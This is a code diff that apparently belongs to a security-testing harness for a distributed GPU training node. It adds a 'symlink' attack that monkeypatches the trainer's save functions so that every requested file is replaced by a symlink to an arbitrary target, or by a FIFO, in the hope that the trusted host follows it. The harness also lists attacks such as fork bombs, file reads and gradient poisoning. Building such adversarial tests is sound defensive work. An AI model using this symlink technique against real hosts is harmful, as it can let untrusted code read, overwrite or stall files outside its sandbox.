@@ -11,6 +11,7 @@ from __future__ import annotations
 import mmap
 import os
 import socket
+import sys
 import time
 
 import torch
@@ -112,8 +113,22 @@ def _exit(target: str) -> None:
     os._exit(7)
 
 
+def _symlink(target: str) -> None:
+    """Make every file the node asks for a symlink to `target` (a FIFO when target is "fifo"), hoping the trusted
+    side follows it on the host, where `target` resolves."""
+    trainer = sys.modules["__main__"].Trainer  # the node runs its trainer as python -m gpuswarm.node.trainer
+
+    def plant(self, name, *_):
+        path = self.workdir / name
+        path.unlink(missing_ok=True)
+        os.mkfifo(path) if target == "fifo" else os.symlink(target, path)
+
+    trainer.save_state = trainer.save_model = plant
+
+
 ATTACKS = {"read": _read, "list": _list, "write": _write, "connect": _connect, "fork_bomb": _fork_bomb,
-           "memory": _memory, "spin": _spin, "exit": _exit}
+           "memory": _memory, "spin": _spin, "exit": _exit,
+           "symlink": _symlink}
 
 
 def poison_gradient_buffer() -> bool:
